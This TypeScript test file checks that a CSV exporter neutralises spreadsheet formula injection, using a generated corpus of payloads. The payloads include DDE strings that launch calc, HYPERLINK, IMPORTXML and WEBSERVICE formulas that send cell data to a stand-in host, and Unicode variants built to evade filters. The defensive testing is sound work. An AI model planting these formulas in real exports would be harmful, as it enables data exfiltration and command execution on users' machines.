import { describe, expect, test } from 'vitest'
import { csvCell, csvFile, csvLine } from './csv.ts'

const formulas = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://elsewhere.example?x="&A1,"open")',
  '=WEBSERVICE("http://elsewhere.example")',
  '=IMPORTXML(CONCAT("http://elsewhere.example?",A1),"//a")',
  '+1+1',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '%0A=1+1',
  '|calc',
]
const wide = ['＝1+1', '＋1', '－1', '＠SUM(A1)', '｜calc', '％0A', '﹦1', '﹢1', '﹣1', '﹫A', '−1', '⁼1', '⁺1', '⁻1', '₌1', '₊1', '₋1']
const before = [
  '',
  ' ',
  '   ',
  '\t',
  '\r',
  '\n',
  '\r\n',
  '\0',
  '\u0001',
  '\u001f',
  '\u007f',
  '\u0085',
  '\u00a0',
  '\u00ad',
  '\u034f',
  '\u061c',
  '\u180e',
  '\u2000',
  '\u200b',
  '\u200e',
  '\u200f',
  '\u2028',
  '\u202a',
  '\u202e',
  '\u2060',
  '\u2066',
  '\u2069',
  '\u3000',
  '\u3164',
  '\ufe0f',
  '\ufeff',
  '\u{e0020}',
  '\u{e0100}',
]
const around = [
  'a;',
  'a,',
  'a\t',
  'a"',
  'a""',
  '"',
  '""',
  "'",
  '"a";',
  '1718;"',
  'a\n',
  'a\r\n',
  'a ; ',
  'a,"',
  '\ufeff"',
  '";"',
  ';',
  ',',
  '\u200b;\u200b',
]

/** Every payload: what begins a formula, behind what is dropped or what ends a cell. */
const corpus = [...new Set([...before, ...around].flatMap((lead) => [...formulas, ...wide].map((text) => lead + text)))]

describe('a corpus of payloads', () => {
  test('holds more than two hundred', () => {
    expect(corpus.length).toBeGreaterThan(200)
  })

  test.each([',', ';', '\t', '|'])('has no active cell where cells end with %j, quotes heeded or not', (border) => {
    const file = csvFile(
      ['text', 'after'],
      corpus.map((text) => [text, 'x']),
    )

    const running = [true, false].flatMap((quotes) => cellsOf(file, border, quotes).filter(runs))

    expect(running).toEqual([])
  })

  test('would have, without the rule', () => {
    const file = corpus.map((text) => `"${text.replaceAll('"', '""')}",x\r\n`).join('')

    expect(cellsOf(file, ',', true).filter(runs).length).toBeGreaterThan(200)
  })
})

test('what is harmless stays as it is', () => {
  const line = ['2026-000012', 'Shahnoza Gʻulomova', 'Ғуломова', '10:30', 'case.viewed', -5, 3.5, null, 'a, b', 'say "yes"', 'x-y', 'a=b']

  expect(csvLine(line)).toBe('2026-000012,Shahnoza Gʻulomova,Ғуломова,10:30,case.viewed,-5,3.5,,"a, b","say ""yes""",x-y,a=b\r\n')
})

test('a telephone number is a text and not a sum', () => {
  expect(csvCell('+998901234567')).toBe(`"'+998901234567"`)
})

test('a file begins with the mark of UTF-8 and ends every line as RFC 4180 says', () => {
  expect(csvFile(['a', 'b'], [['1', '2']])).toBe('\ufeffa,b\r\n1,2\r\n')
})

/** Cells as a careless spreadsheet reads them: with any border, with quotes heeded or taken for letters. */
function cellsOf(file: string, border: string, quotes: boolean): string[] {
  const cells: string[] = []
  let [cell, quoted] = ['', false]
  for (const sign of file) {
    if (quotes && sign === '"' && (quoted || cell.trim() === '' || cell.endsWith('"') || quoted)) {
      quoted = !quoted
      continue
    }
    if (!quoted && (sign === border || sign === '\n' || sign === '\r')) {
      cells.push(cell)
      cell = ''
    } else cell += sign
  }
  return [...cells, cell]
}

/** Whether a spreadsheet that drops what cannot be seen, blanks and quotation marks would run the cell. */
const runs = (cell: string): boolean =>
  /^[=+\-@|%−]/.test(cell.replaceAll(/[\p{C}\p{Z}\p{Default_Ignorable_Code_Point}"]/gu, '').normalize('NFKC')) &&
  !/^-?\d+(\.\d+)?$/.test(cell)
